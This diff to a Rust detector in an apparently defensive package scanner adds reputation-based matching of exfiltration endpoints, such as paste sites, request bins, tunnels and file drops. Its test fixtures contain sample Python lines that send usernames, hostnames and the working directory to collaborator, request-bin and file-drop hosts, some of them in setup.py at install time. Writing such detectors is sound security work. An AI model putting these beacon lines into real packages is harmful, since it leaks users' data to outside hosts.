@@ -16,6 +16,7 @@
 //! docs are skipped.
 
 use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
+use super::reputation::{self, Class};
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 use regex::Regex;
@@ -23,20 +24,18 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 1,
+    revision: 2,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
     description: "Webhooks, bot APIs, paste sites, request bins and tunnels are where credential stealers send what they collect.",
 };
 
-/// (pattern, class): class 2 = webhook/bot (high), 1 = paste/bin/tunnel (medium), 0 = raw code host (install-time only).
+/// Webhook/bot APIs (high) and raw code hosts (install-time only). Paste sites, request
+/// bins, collaborators, tunnels and file drops come from [`super::reputation`].
 static ENDPOINT: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(concat!(
         r"(?i)(?P<hook>(?-u:\b)(?:(?:canary\.|ptb\.)?discord(?:app)?\.com/api/(?:v\d+/)?webhooks|hooks\.slack\.com/(?:services|workflows)|api\.telegram\.org/bot|webhook\.office\.com))",
-        r"|(?P<bin>(?-u:\b)(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|rentry\.(?:co|org)|pastes\.io|dpaste\.(?:com|org)|controlc\.com|justpaste\.it|paste\.rs|termbin\.com",
-        r"|webhook\.site|requestbin\.\w+|[\w-]+\.m\.pipedream\.net|requestcatcher\.com|beeceptor\.com|hookbin\.com|postb\.in|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|burpcollaborator\.net|oastify\.com|canarytokens\.com|dnslog\.cn|ceye\.io",
-        r"|[\w-]+\.ngrok(?:-free)?\.(?:io|app|dev)|ngrok\.io|serveo\.net|localhost\.run|[\w-]+\.trycloudflare\.com|transfer\.sh|file\.io|anonfiles\.com|gofile\.io|temp\.sh|bashupload\.com|0x0\.st|catbox\.moe)(?-u:\b))",
         r"|(?P<raw>(?-u:\b)(?:raw\.githubusercontent\.com|gist\.githubusercontent\.com|gitlab\.com/[^\s'\x22]+/-/raw/|bitbucket\.org/[^\s'\x22]+/raw/))",
     ))
     .expect("endpoint regex")
@@ -72,28 +71,40 @@ impl Detector for ExfilEndpoint {
             "hooks.slack",
             "api.telegram",
             "webhook",
-            "paste",
-            "hastebin",
-            "ghostbin",
-            "rentry",
-            "controlc",
-            "termbin",
+            // destinations by reputation (`super::reputation::LITERALS`)
+            "interact",
+            "oast",
+            "burpcollaborator",
+            "canarytokens",
+            "dnslog",
+            "ceye.io",
+            "requestrepo",
+            "webhook.site",
             "requestbin",
             "pipedream",
             "requestcatcher",
             "beeceptor",
             "hookbin",
             "postb.in",
-            "interact.sh",
-            "oast",
-            "burpcollaborator",
-            "canarytokens",
-            "dnslog",
-            "ceye.io",
             "ngrok",
             "serveo",
             "localhost.run",
+            "lhr.life",
+            "loca.lt",
+            "localtunnel",
             "trycloudflare",
+            "bore.pub",
+            "pagekite",
+            "telebit",
+            "localxpose",
+            "paste",
+            "hastebin",
+            "ghostbin",
+            "rentry",
+            "controlc",
+            "termbin",
+            "ix.io",
+            "sprunge",
             "transfer.sh",
             "file.io",
             "anonfiles",
@@ -102,6 +113,13 @@ impl Detector for ExfilEndpoint {
             "bashupload",
             "0x0.st",
             "catbox",
+            "filebin",
+            "tmpfiles",
+            "oshi.at",
+            "pixeldrain",
+            "uguu.se",
+            "sendspace",
+            "mediafire",
             "raw.githubusercontent",
             "gist.githubusercontent",
             "/-/raw/",
@@ -125,11 +143,8 @@ impl Detector for ExfilEndpoint {
         }
         let harvest = std::cell::OnceCell::new();
         let harvests = || *harvest.get_or_init(|| HARVEST.is_match(file.text));
-        let mut n = 0;
+        let mut found: Vec<(usize, String, Severity)> = Vec::new();
         for c in ENDPOINT.captures_iter(file.text) {
-            if n >= MAX_HITS_PER_FILE {
-                break;
-            }
             let m = c.get(0).expect("match");
             if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str) {
                 continue;
@@ -150,20 +165,34 @@ impl Detector for ExfilEndpoint {
                 } else {
                     Severity::Medium
                 }
-            } else if c.name("bin").is_some() {
-                if install {
-                    Severity::High
-                } else {
-                    Severity::Medium
-                }
             } else if install {
                 Severity::Medium
             } else {
                 continue;
             };
-            n += 1;
-            let ind = m.as_str().to_ascii_lowercase();
-            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, m.start(), ind) });
+            found.push((m.start(), m.as_str().to_ascii_lowercase(), sev));
+            if found.len() >= MAX_HITS_PER_FILE {
+                break;
+            }
+        }
+        // Destinations by reputation. Collaborators, request bins and tunnels exist to
+        // receive calls: next to harvesting they are a beacon (high, install critical).
+        for (start, end, class) in reputation::in_text(file.text).take(MAX_HITS_PER_FILE) {
+            if src.python && !matches!(src.kind_at(start), Kind::Code | Kind::Str) {
+                continue;
+            }
+            let receiver = matches!(class, Class::Collaborator | Class::RequestBin | Class::Tunnel);
+            let sev = match (install, receiver && harvests()) {
+                (true, true) => Severity::Critical,
+                (true, false) | (false, true) => Severity::High,
+                (false, false) => Severity::Medium,
+            };
+            let host = file.text[start..end].to_ascii_lowercase();
+            found.push((start, format!("{host} ({})", class.as_str()), sev));
+        }
+        found.sort_by_key(|f| f.0);
+        for (off, ind, sev) in found.into_iter().take(MAX_HITS_PER_FILE) {
+            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
         }
     }
 }
@@ -176,9 +205,9 @@ mod tests {
     use Severity::*;
 
     #[test]
-    fn prefilter_covers_the_dns_exfiltration_literals() {
+    fn prefilter_covers_the_dns_exfiltration_and_reputation_literals() {
         let Interest::Literals(mine) = ExfilEndpoint.interest() else { panic!("literal prefilter expected") };
-        for lit in super::super::dns_exfil::LITERALS {
+        for lit in super::super::dns_exfil::LITERALS.iter().chain(reputation::LITERALS) {
             assert!(mine.contains(lit), "{lit} missing from the prefilter");
         }
     }
@@ -244,14 +273,14 @@ mod tests {
                     "pkg/a.py",
                     Runtime,
                     "u = 'https://pastebin.com/raw/abc'\n",
-                    Some((1, "pastebin.com", Medium)),
+                    Some((1, "pastebin.com (paste site)", Medium)),
                 ),
                 (
                     "ngrok",
                     "pkg/a.py",
                     Runtime,
                     "H = 'abc123.ngrok-free.app'\n",
-                    Some((1, "abc123.ngrok-free.app", Medium)),
+                    Some((1, "abc123.ngrok-free.app (tunnel)", Medium)),
                 ),
                 (
                     "raw host at install",
@@ -305,6 +334,57 @@ mod tests {
                     "u = 'https://nothooks.slack.com/services/T1/B2/abc'\n",
                     None,
                 ),
+                (
+                    "dns beacon through an f-string to a collaborator",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import socket, getpass, os\nsocket.gethostbyname(f\"{getpass.getuser()}.{socket.gethostname()}.c1.oast.fun\")\n",
+                    Some((2, "DNS lookup of harvested data (socket.gethostbyname)", High)),
+                ),
+                (
+                    "dns beacon name built in a variable",
+                    "setup.py",
+                    InstallTime,
+                    "import socket, getpass\nu = getpass.getuser()\nname = f'{u}.{socket.gethostname()}.x.example.org'\nsocket.gethostbyname(name)\n",
+                    Some((4, "DNS lookup of harvested data (socket.gethostbyname)", Critical)),
+                ),
+                (
+                    "collaborator callback with host and user",
+                    "pkg/a.py",
+                    Runtime,
+                    "import requests, socket, getpass\nrequests.get('http://c1abc.oast.pro/cb', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+                    Some((2, "c1abc.oast.pro (out-of-band collaborator)", High)),
+                ),
+                (
+                    "dependency-confusion callback in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "import os, urllib.request\nurllib.request.urlopen('https://eo2abc.m.pipedream.net/?d=' + os.getcwd() + getpass.getuser())\n",
+                    Some((2, "eo2abc.m.pipedream.net (request bin)", Critical)),
+                ),
+                (
+                    "localtunnel endpoint alone",
+                    "pkg/a.py",
+                    Runtime,
+                    "BASE = 'https://quiet-fox-12.loca.lt/api'\n",
+                    Some((1, "quiet-fox-12.loca.lt (tunnel)", Medium)),
+                ),
+                (
+                    "request bin at install without harvesting",
+                    "setup.py",
+                    InstallTime,
+                    "import requests\nrequests.get('https://webhook.site/4f1c')\n",
+                    Some((2, "webhook.site (request bin)", High)),
+                ),
+                (
+                    "file drop",
+                    "pkg/a.py",
+                    Runtime,
+                    "requests.post('https://transfer.sh/x', data=blob)\n",
+                    Some((1, "transfer.sh (file drop)", Medium)),
+                ),
+                ("look-alike name is not the service", "pkg/a.py", Runtime, "u = 'https://mypaste.ee.example.org/x'\n", None),
+                ("collaborator named in a comment", "pkg/a.py", Runtime, "# test with interactsh: x.oast.fun\nx = 1\n", None),
                 (
                     "real discord webhook in setup.py",
                     "setup.py",
